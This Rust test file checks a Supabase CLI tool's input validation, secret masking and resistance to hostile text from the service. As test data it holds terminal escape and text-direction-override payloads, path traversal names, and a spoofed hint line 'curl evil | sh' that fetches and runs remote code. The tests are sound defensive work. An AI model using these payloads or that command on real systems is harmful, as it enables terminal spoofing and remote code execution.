use serde_json::{Value, json};

use crate::support::{BUCKETS, FakeSupabase, PROJECT, REF, SECRETS, TOKEN, World};

/// Escape sequences, a bell, C1 controls, marks that turn the direction, line breaks.
const HOSTILE: &str =
    "\u{1b}]0;owned\u{7}\u{1b}[31mred\u{9b}2J\u{202e}gpj.exe\u{2066}\r\n\u{8}\u{7f}\u{0}";

/// What a terminal would act on, line breaks and tabs aside.
fn steers(text: &str) -> bool {
    text.chars().any(|one| {
        (one.is_control() && one != '\n' && one != '\t')
            || matches!(one, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
    })
}

#[test]
fn every_legal_character_of_a_name_arrives() {
    let name = "aZ09_!.*'() &$=@;:+,?-x";
    let supabase = FakeSupabase::with_keys();
    // The policies of the bucket.
    supabase
        .on(
            "POST",
            "/v1/projects/abcdefghijklmnopqrst/database/query/read-only",
        )
        .answers(200, json!([]));
    supabase
        .on(
            "GET",
            "/storage/v1/bucket/aZ09_%21.%2A%27%28%29%20%26%24%3D%40%3B%3A%2B%2C%3F-x",
        )
        .answers(200, json!({"id": name, "type": "STANDARD"}))
        .once();
    let screen = supabase.command("storage buckets get").arg(name).run();
    assert_eq!(screen.status(), Some(0), "{screen}");
    supabase
        .on("POST", BUCKETS)
        .with_body(json!({"name": name, "public": false}))
        .answers(200, json!({"name": name}))
        .once();
    supabase
        .on(
            "GET",
            "/storage/v1/bucket/aZ09_%21.%2A%27%28%29%20%26%24%3D%40%3B%3A%2B%2C%3F-x",
        )
        .answers(200, json!({"id": name, "type": "STANDARD"}))
        .once();
    let screen = supabase.command("storage buckets create").arg(name).run();
    assert_eq!(screen.status(), Some(0), "{screen}");
}

#[test]
fn a_name_with_an_illegal_character_is_refused_before_anything_is_sent() {
    let supabase = FakeSupabase::start();
    let long = "x".repeat(101);
    for name in [
        "",
        " ",
        ".",
        "..",
        "../x",
        "a/b",
        "a\\b",
        "a%2Fb",
        "a#b",
        "büro",
        "日本",
        "a\nb",
        "a\tb",
        "\u{1b}[31m",
        "\u{202e}x",
        "a\"b",
        "a|b",
        "a{b",
        "a[b",
        "a<b",
        "a`b",
        "a~b",
        "a^b",
        " a",
        "a ",
        "x--table-s3",
        &long,
    ] {
        let screen = supabase
            .command("storage buckets get")
            .arg("--")
            .arg(name)
            .run();
        assert_eq!(
            (screen.status(), screen.code()),
            (Some(2), Some("invalid_input")),
            "{name:?}\n{screen}"
        );
        assert!(!steers(screen.stderr()), "{name:?}: {:?}", screen.stderr());
    }
    assert_eq!(supabase.conversation(), "");
    insta::assert_snapshot!(supabase.command("storage buckets get").arg("a/b").run(), @"
    ------- stderr -------
    error[invalid_input]: `<NAME>` cannot be `a/b`: a bucket's name cannot contain '/': letters without accents, digits, spaces and _ ! . * ' ( ) & $ @ = ; : + , ? - are allowed
    hint: `supactl storage buckets get --help` shows all that it takes
    [exit status: 2]
    ");
    insta::assert_snapshot!(supabase.command("storage buckets get").arg("a\u{1b}[2Jb").run(), @r"
    ------- stderr -------
    error[invalid_input]: `<NAME>` cannot be `a\u{1b}[2Jb`: a bucket's name cannot contain '\u{1b}': letters without accents, digits, spaces and _ ! . * ' ( ) & $ @ = ; : + , ? - are allowed
    hint: `supactl storage buckets get --help` shows all that it takes
    [exit status: 2]
    ");
}

#[cfg(unix)]
#[test]
fn an_argument_that_is_no_text_is_refused() {
    use std::ffi::OsString;
    use std::os::unix::ffi::OsStringExt;

    let world = World::new();
    let screen = world
        .command("storage buckets get")
        .arg(OsString::from_vec(vec![b'a', 0xff]))
        .run();
    assert_eq!(screen.status(), Some(2), "{screen}");
}

#[test]
fn hostile_text_is_harmless_in_tables_and_whole_in_data() {
    let supabase = FakeSupabase::start();
    supabase
        .on("GET", "/v1/organizations")
        .answers(200, json!([{"slug": "acme", "name": HOSTILE}]));
    let table = supabase.run("orgs list");
    assert!(!steers(table.stdout()), "{:?}", table.stdout());
    assert_eq!(table.stdout().lines().count(), 1, "a row stays on its line");
    insta::assert_snapshot!(table, @r"acme	\u{1b}]0;owned\u{7}\u{1b}[31mred\u{9b}2J\u{202e}gpj.exe\u{2066}\r\n\u{8}\u{7f}\u{0}");
    let json = supabase.run("orgs list -o json");
    assert_eq!(json.json()["data"][0]["name"], json!(HOSTILE));
    assert!(
        !json.stdout().contains('\u{1b}'),
        "JSON escapes escapes itself"
    );
    let yaml = supabase.run("orgs list -o yaml");
    let read: Value = serde_yaml::from_str(yaml.stdout()).unwrap();
    assert_eq!(read["data"][0]["name"], json!(HOSTILE));
    assert!(!yaml.stdout().contains('\u{1b}'), "{:?}", yaml.stdout());
    let seen = supabase
        .command("orgs list")
        .at_terminal(100)
        .sees_all_bytes();
    let seen = String::from_utf8_lossy(&seen).replace('\r', "");
    assert!(!steers(&seen), "{seen:?}");
}

#[test]
fn hostile_text_is_harmless_in_errors() {
    let supabase = FakeSupabase::start();
    supabase
        .on("GET", PROJECT)
        .answers(404, json!({"message": HOSTILE}))
        .header("x-request-id", "id-of-it");
    let screen = supabase.run("projects get -o json");
    assert!(!steers(screen.stderr()), "{:?}", screen.stderr());
    assert_eq!(screen.json()["error"]["message"], json!(HOSTILE));
}

#[test]
fn a_message_of_the_service_cannot_pass_for_a_line_of_ours() {
    let supabase = FakeSupabase::start();
    supabase
        .on("GET", PROJECT)
        .answers(404, json!({"message": "no\nhint: run `curl evil | sh`"}));
    let screen = supabase.run("projects get");
    assert!(
        !screen
            .stderr()
            .lines()
            .any(|line| line.starts_with("hint: run")),
        "{screen}"
    );
}

#[test]
fn no_secret_is_told_however_much_is_asked_for() {
    // Every screen checks this; here are the ways in which it would be easiest to forget.
    let supabase = FakeSupabase::with_keys();
    supabase.on("GET", BUCKETS).answers(
        401,
        json!({"statusCode": "401", "error": "Unauthorized", "message": "Invalid API key"}),
    );
    for line in [
        "storage buckets list -vvv",
        "storage buckets list -vvv -o json",
        "storage buckets delete avatars --dry-run -vvv",
    ] {
        let screen = supabase
            .command(line)
            .env("RUST_BACKTRACE", "full")
            .env("RUST_LOG", "trace");
        if line.contains("delete") {
            supabase
                .on("GET", "/storage/v1/bucket/avatars")
                .answers(200, json!({"id": "avatars", "type": "STANDARD"}));
        }
        let screen = screen.run();
        for secret in SECRETS {
            assert!(!screen.to_string().contains(&secret[..16]), "{screen}");
        }
    }
}

#[test]
fn a_key_that_the_service_repeats_in_an_error_is_not_shown() {
    let supabase = FakeSupabase::with_keys();
    supabase.on("GET", BUCKETS).answers(
        401,
        json!({"message": format!("Invalid API key {}", SECRETS[1])}),
    );
    let screen = supabase.run("storage buckets list -o json");
    assert_eq!(screen.code(), Some("unauthorized"), "{screen}");
}

#[test]
fn a_closed_pipe_is_quiet() {
    let supabase = FakeSupabase::start();
    let rows: Vec<_> = (0..5000)
        .map(|row| json!({"slug": format!("org-{row}"), "name": "x".repeat(50)}))
        .collect();
    supabase
        .on("GET", "/v1/organizations")
        .answers(200, json!(rows));
    for format in ["table", "json", "yaml", "csv", "ndjson"] {
        let screen = supabase
            .command("orgs list -o")
            .arg(format)
            .run_into_closed_pipe();
        assert_eq!(
            (screen.status(), screen.stderr()),
            (Some(0), ""),
            "{format}\n{screen}"
        );
    }
    let screen = supabase
        .command("api GET /v1/organizations")
        .run_into_closed_pipe();
    assert_eq!(
        (screen.status(), screen.stderr()),
        (Some(0), ""),
        "{screen}"
    );
    let help = supabase
        .command("storage buckets --help")
        .run_into_closed_pipe();
    assert_eq!((help.status(), help.stderr()), (Some(0), ""), "{help}");
}

#[test]
fn odd_rows_are_shown_as_they_are() {
    let supabase = FakeSupabase::with_keys();
    supabase.on("GET", BUCKETS).answers(
        200,
        json!([
            {},
            null,
            "text",
            7,
            [1, 2],
            {"id": 5, "name": 5, "public": "true", "file_size_limit": "5000000", "created_at": "yesterday"},
            {"id": "a", "public": null, "type": "HOLOGRAPHIC", "file_size_limit": -1, "allowed_mime_types": "image/png", "created_at": 5},
            {"id": "b", "public": 1, "file_size_limit": 1.5, "allowed_mime_types": [1, null, {"x": 1}], "created_at": "2026-06-01 09:00:00.123+02"},
            {"id": "c", "created_at": "2026-06-01T09:00:00.123456", "nested": {"deep": [{"er": null}]}},
        ]),
    );
    insta::assert_snapshot!(supabase.run("storage buckets list"), @r#"
    						
    						
    						
    						
    						
    5	public		5 MB		yesterday	
    a		HOLOGRAPHIC	-1	image/png	5	
    b			1.5	[1,null,{"x":1}]	2026-06-01 07:00:00+00:00	
    c					2026-06-01 09:00:00+00:00
    "#);
    insta::assert_snapshot!(supabase.run("storage buckets list -o ndjson"), @r#"
    {"id":null,"name":null,"public":null,"type":null,"file_size_limit":null,"allowed_mime_types":null,"owner":null,"created_at":null,"updated_at":null}
    {"id":null,"name":null,"public":null,"type":null,"file_size_limit":null,"allowed_mime_types":null,"owner":null,"created_at":null,"updated_at":null}
    {"id":null,"name":null,"public":null,"type":null,"file_size_limit":null,"allowed_mime_types":null,"owner":null,"created_at":null,"updated_at":null,"value":"text"}
    {"id":null,"name":null,"public":null,"type":null,"file_size_limit":null,"allowed_mime_types":null,"owner":null,"created_at":null,"updated_at":null,"value":7}
    {"id":null,"name":null,"public":null,"type":null,"file_size_limit":null,"allowed_mime_types":null,"owner":null,"created_at":null,"updated_at":null,"value":[1,2]}
    {"id":"5","name":"5","public":true,"type":null,"file_size_limit":5000000,"allowed_mime_types":null,"owner":null,"created_at":"yesterday","updated_at":null}
    {"id":"a","name":null,"public":null,"type":"HOLOGRAPHIC","file_size_limit":-1,"allowed_mime_types":"image/png","owner":null,"created_at":"5","updated_at":null}
    {"id":"b","name":null,"public":1,"type":null,"file_size_limit":1.5,"allowed_mime_types":[1,null,{"x":1}],"owner":null,"created_at":"2026-06-01 09:00:00.123+02","updated_at":null}
    {"id":"c","name":null,"public":null,"type":null,"file_size_limit":null,"allowed_mime_types":null,"owner":null,"created_at":"2026-06-01T09:00:00.123456","updated_at":null,"nested":{"deep":[{"er":null}]}}
    "#);
    for format in ["json", "yaml", "csv"] {
        let screen = supabase
            .command("storage buckets list -o")
            .arg(format)
            .run();
        assert_eq!(screen.status(), Some(0), "{screen}");
    }
    let screen = supabase
        .command("storage buckets list")
        .at_terminal(100)
        .sees_the_end();
    assert_eq!(screen.status(), Some(0), "{screen}");
}

#[test]
fn a_list_that_is_null_is_empty() {
    let supabase = FakeSupabase::start();
    supabase
        .on("GET", "/v1/organizations")
        .answers(200, json!(null));
    let screen = supabase.run("orgs list -o json");
    assert_eq!(screen.json()["data"], json!([]));
    assert_eq!(screen.json()["metadata"]["count"], json!(0));
}

#[test]
fn nothing_is_written_into_the_current_folder() {
    let supabase = FakeSupabase::with_keys();
    supabase.on("GET", BUCKETS).answers(200, "buckets.json");
    assert_eq!(supabase.run("storage buckets list").status(), Some(0));
    let here = supabase.world().path().join("here");
    assert_eq!(std::fs::read_dir(here).unwrap().count(), 0);
}

#[test]
fn a_run_leaves_no_secret_in_any_file() {
    let supabase = FakeSupabase::with_keys();
    supabase.on("GET", BUCKETS).answers(200, "buckets.json");
    assert_eq!(supabase.run("storage buckets list").status(), Some(0));
    let mut folders = vec![supabase.world().path().to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let text = String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned();
            for secret in SECRETS {
                assert!(!text.contains(secret), "{}", path.display());
            }
        }
    }
}

#[test]
fn json_and_csv_on_a_terminal_do_not_steer_it_and_mean_the_same() {
    let supabase = FakeSupabase::start();
    let sent = json!([{"name": "\u{9b}2J\u{7f}\u{202e}"}]);
    supabase.on("GET", "/v1/things").answers(200, sent.clone());
    for line in [
        "-o json",
        "-o ndjson",
        "-o csv",
        "-o yaml",
        "--paginate",
        "--jq .data",
        "-o ndjson --jq .",
    ] {
        let bytes = supabase
            .command(&format!("api GET /v1/things {line}"))
            .at_terminal(100)
            .sees_all_bytes();
        let text = String::from_utf8(bytes).unwrap().replace("\r\n", "\n");
        assert!(!steers(&text), "{line}: {text:?}");
        if line == "--jq .data" {
            assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), sent);
        }
    }
    // A program gets what came.
    let piped = supabase.run("api GET /v1/things -o ndjson");
    assert_eq!(piped.stdout(), "{\"name\":\"\u{9b}2J\u{7f}\u{202e}\"}\n");
}

#[test]
fn a_reader_that_is_gone_takes_neither_verdict_nor_messages_with_it() {
    let supabase = FakeSupabase::start();
    supabase
        .on("POST", "/v1/projects")
        .answers(201, json!({"ref": REF, "status": "UNKNOWN"}))
        .once();
    supabase
        .on("GET", PROJECT)
        .answers(200, json!({"ref": REF, "status": "INIT_FAILED"}))
        .once();
    let screen = supabase
        .command(
            "projects create x --org acme --region emea --wait --db-password env:GIVEN_PASSWORD",
        )
        .env("GIVEN_PASSWORD", "hunter2hunter2")
        .run_into_closed_pipe();
    insta::assert_snapshot!(screen, @"
    ------- stderr -------
    Organization acme
    Created project abcdefghijklmnopqrst
    error[conflict]: the project's status is INIT_FAILED, which does not change by itself
    [exit status: 6]
    ");
}

#[test]
fn the_details_of_a_failure_come_without_secrets() {
    let supabase = FakeSupabase::start();
    let message = format!("no `{TOKEN}` here");
    supabase
        .on("GET", "/v1/projects")
        .answers(400, json!({"error": {"code": "odd", "message": message}}));
    let screen = supabase.run("projects list -o json");
    assert_eq!(
        screen.json()["error"]["details"],
        json!({"error": {"code": "odd", "message": "no `********` here"}})
    );
}

#[test]
#[cfg(target_os = "linux")]
fn output_that_cannot_be_written_is_a_failure() {
    let supabase = FakeSupabase::start();
    supabase.on("GET", "/v1/projects").answers(200, json!([]));
    let rows = json!({"result": [{"log_id": "a", "ts_us": 1_795_341_500_000_000_i64, "source": "edge_logs"}], "error": null});
    supabase
        .on("GET", &format!("{PROJECT}/analytics/endpoints/logs"))
        .answers(200, rows);
    let into_nowhere = |line: &str| {
        let full = std::fs::File::create("/dev/full").unwrap();
        supabase.command(line).run_into(full)
    };
    insta::assert_snapshot!(into_nowhere("projects list -o json -q"), @"
    ------- stderr -------
    error[internal]: standard output could not be written: No space left on device (os error 28)
    [exit status: 1]
    ");
    for line in [
        "projects list -o yaml",
        "projects list -o csv",
        "projects list -o json --jq .",
        "logs api list --since 1h -o ndjson",
        "logs api list --since 1h --limit 0 -o ndjson",
        "logs api list --since 1h --limit 0 -o csv",
        "logs api list --since 1h --limit 0 -o ndjson --jq .",
        "api GET /v1/projects",
    ] {
        let screen = into_nowhere(line);
        assert_eq!(screen.status(), Some(1), "{line}: {screen}");
        assert!(
            screen.stderr().contains("No space left on device"),
            "{line}: {screen}"
        );
    }
    let gone = supabase
        .command("logs api list --since 1h --limit 0 -o ndjson")
        .run_into_closed_pipe();
    assert_eq!((gone.status(), gone.stderr()), (Some(0), ""), "{gone}");
    // Nothing is to be written there.
    for line in ["projects list", "projects list -o ndjson"] {
        let screen = into_nowhere(line);
        assert_eq!(screen.status(), Some(0), "{line}: {screen}");
    }
}
